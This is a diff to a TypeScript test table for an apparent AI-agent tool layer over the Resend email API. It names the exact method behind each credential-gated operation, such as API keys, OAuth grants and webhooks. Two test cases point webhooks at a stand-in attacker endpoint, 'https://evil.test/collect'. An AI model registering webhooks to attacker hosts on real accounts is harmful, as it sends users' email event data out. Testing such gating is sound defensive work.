@@ -389,17 +389,21 @@ const CAPS_ONLY: readonly ToolCase[] = [
   },
   // Nothing to disconnect: the connection above was refused, so it calls nothing.
   { tool: 'disconnect-from-editor', args: () => ({}), calls: [] },
-  { tool: 'create-api-key', args: () => ({ name: 'agent' }), calls: [[null, 'credential_operation']] },
-  { tool: 'list-api-keys', args: () => ({}), calls: [[null, 'credential_operation']] },
+  {
+    tool: 'create-api-key',
+    args: () => ({ name: 'agent' }),
+    calls: [['resend.api_keys.create', 'credential_operation']],
+  },
+  { tool: 'list-api-keys', args: () => ({}), calls: [['resend.api_keys.list', 'credential_operation']] },
   {
     tool: 'update-api-key',
     args: () => ({ id: '6a8a7c52-0f7e-4b0f-9a57-1c1e6f0c2b11', name: 'renamed' }),
-    calls: [[null, 'credential_operation']],
+    calls: [['resend.api_keys.update', 'credential_operation']],
   },
   {
     tool: 'remove-api-key',
     args: () => ({ id: '6a8a7c52-0f7e-4b0f-9a57-1c1e6f0c2b11' }),
-    calls: [[null, 'credential_operation']],
+    calls: [['resend.api_keys.remove', 'credential_operation']],
   },
   {
     tool: 'create-automation',
@@ -622,7 +626,11 @@ const CAPS_ONLY: readonly ToolCase[] = [
     calls: allow('resend.emails.update'),
   },
   { tool: 'cancel-email', args: (f) => ({ id: f.scheduledEmail }), calls: allow('resend.emails.cancel') },
-  { tool: 'share-email', args: (f) => ({ id: f.scheduledEmail }), calls: [[null, 'credential_operation']] },
+  {
+    tool: 'share-email',
+    args: (f) => ({ id: f.scheduledEmail }),
+    calls: [['resend.emails.share', 'credential_operation']],
+  },
   { tool: 'get-email-metrics', args: () => ({}), calls: allow('resend.emails.metrics') },
   {
     tool: 'list-sent-email-attachments',
@@ -681,7 +689,7 @@ const CAPS_ONLY: readonly ToolCase[] = [
   {
     tool: 'revoke-oauth-grant',
     args: () => ({ id: '0c9f3f55-52f5-4d43-9a0a-4f2de4bb2b11' }),
-    calls: [[null, 'credential_operation']],
+    calls: [['resend.oauth_grants.revoke', 'credential_operation']],
   },
   { tool: 'create-segment', args: () => ({ name: 'VIP' }), calls: allow('resend.segments.create') },
   { tool: 'list-segments', args: () => ({}), calls: allow('resend.segments.list') },
@@ -774,14 +782,18 @@ const CAPS_ONLY: readonly ToolCase[] = [
   {
     tool: 'create-webhook',
     args: () => ({ endpoint: 'https://evil.test/collect', events: ['email.sent'] }),
-    calls: [[null, 'credential_operation']],
+    calls: [['resend.webhooks.create', 'credential_operation']],
   },
   { tool: 'list-webhooks', args: () => ({}), calls: allow('resend.webhooks.list') },
-  { tool: 'get-webhook', args: (f) => ({ webhookId: f.webhook }), calls: [[null, 'credential_operation']] },
+  {
+    tool: 'get-webhook',
+    args: (f) => ({ webhookId: f.webhook }),
+    calls: [['resend.webhooks.get', 'credential_operation']],
+  },
   {
     tool: 'update-webhook',
     args: (f) => ({ webhookId: f.webhook, endpoint: 'https://evil.test/collect' }),
-    calls: [[null, 'credential_operation']],
+    calls: [['resend.webhooks.update', 'credential_operation']],
   },
   {
     tool: 'list-webhook-events',
@@ -801,7 +813,7 @@ const CAPS_ONLY: readonly ToolCase[] = [
   {
     tool: 'rotate-webhook-signing-secret',
     args: (f) => ({ webhookId: f.webhook }),
-    calls: [[null, 'credential_operation']],
+    calls: [['resend.webhooks.rotate_signing_secret', 'credential_operation']],
   },
   {
     tool: 'list-webhook-event-attempts',
